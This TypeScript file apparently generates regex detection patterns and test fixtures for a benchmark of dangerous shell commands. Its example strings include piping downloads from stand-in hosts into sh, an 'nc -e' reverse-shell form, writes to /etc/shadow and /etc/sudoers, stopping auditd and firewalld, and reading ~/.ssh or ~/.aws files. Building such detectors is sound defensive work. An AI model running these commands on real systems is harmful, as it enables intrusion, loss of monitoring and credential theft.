import type { Draw } from '../draw.ts'
import type { Pattern } from './bench-rule.ts'

const commands = ['rm', 'curl', 'wget', 'chmod', 'chown', 'git', 'docker', 'kubectl', 'systemctl', 'iptables', 'mount']
const more = ['dd', 'nc', 'tar', 'scp', 'rsync', 'crontab', 'useradd', 'usermod', 'passwd', 'npm', 'pip', 'ssh', 'psql']
const programs = [...commands, ...more]
const options = ['force', 'recursive', 'no-verify', 'privileged', 'insecure', 'hard', 'all', 'delete', 'no-preserve']
const files = ['shadow', 'passwd', 'sudoers', 'hosts', 'crontab', 'fstab', 'profile', 'resolv', 'ld', 'environment']
const units = [
  'firewalld',
  'auditd',
  'fail2ban',
  'sshd',
  'rsyslog',
  'apparmor',
  'chronyd',
  'nftables',
  'clamd',
  'osqueryd',
]
const homes = ['.ssh', '.aws', '.kube', '.gnupg', '.docker', '.config', '.netrc', '.pgpass', '.npmrc', '.bash_history']

const writes = [
  ['>{1,2}', 'echo x >>'],
  ['\\btee\\s(?:-a\\s)?', 'echo x | tee -a'],
  ['\\bcp\\s[^|;]{1,60}\\s', 'cp -f /tmp/x'],
  ['\\bmv\\s[^|;]{1,60}\\s', 'mv /tmp/x'],
] as const

type Template = (turn: number, draw: Draw) => Pattern

const templates: readonly Template[] = [
  (turn) => {
    const program = at(programs, turn)
    const option = at(options, turn)
    return {
      pattern: `\\b${program}\\s+(?:-{1,2}[A-Za-z-]+\\s+){0,4}--${option}\\b`,
      literals: [`--${option}`],
      example: `${program} -v --${option} build`,
      nearMiss: `${program} -v build --${option}`,
    }
  },
  (turn, draw) => {
    const program = at(programs, turn)
    return {
      pattern: `\\b${program}\\b[^|;&\\n]{0,${60 + 20 * Math.floor(turn / programs.length)}}\\|\\s{0,4}(?:sudo\\s+)?(?:ba|z|da)?sh\\b`,
      literals: [program],
      example: `${program} https://host${draw.digits(2)}.example/install | sh`,
      nearMiss: `${program} https://host${draw.digits(2)}.example/install | less`,
    }
  },
  (turn) => {
    const file = at(files, turn)
    const [way, example] = at(writes, Math.floor(turn / files.length))
    return {
      pattern: `${way}\\s{0,4}/etc/${file}\\b`,
      literals: [`/etc/${file}`],
      example: `${example} /etc/${file}`,
      nearMiss: `cat /etc/${file}`,
    }
  },
  (turn) => {
    const unit = at(units, turn)
    const verb = at(['stop', 'disable', 'mask', 'kill'], Math.floor(turn / units.length))
    return {
      pattern: `(?i)\\bsystemctl\\s+(?:--[a-z-]+\\s+){0,3}${verb}\\s+(?:[a-z.]+\\s+){0,3}${unit}\\b`,
      literals: [unit],
      example: `systemctl --now ${verb} ${unit}`,
      nearMiss: `systemctl status ${unit}`,
    }
  },
  (turn) => {
    const home = at(homes, turn)
    const program = at(['cat', 'cp', 'less', 'base64', 'xxd', 'strings', 'tail'], Math.floor(turn / homes.length))
    return {
      pattern: `\\b${program}\\s[^\\n|;]{0,60}/${home.replaceAll('.', '\\.')}\\b`,
      literals: [`/${home}`],
      example: `${program} /home/user/${home}/x`,
      nearMiss: `ls /home/user/${home}/x`,
    }
  },
  (turn, draw) => {
    const port = 1024 + turn * 217
    return {
      pattern: `(?i)\\b(?:nc|ncat|socat|telnet)\\b[^\\n;]{0,60}[ :]${port}\\b`,
      literals: [String(port)],
      example: `nc -e /bin/x 10.0.0.${draw.digits(1)} ${port}`,
      nearMiss: `listening on 10.0.0.${draw.digits(1)} ${port}`,
    }
  },
]

/** Commands with an option, pipes into a shell, writes below `/etc`, services stopped, keys read, ports opened. */
export function shellPattern(index: number, draw: Draw): Pattern {
  return at(templates, index)(Math.floor(index / templates.length), draw)
}

function at<Item>(items: readonly Item[], index: number): Item {
  return items[index % items.length] as Item
}
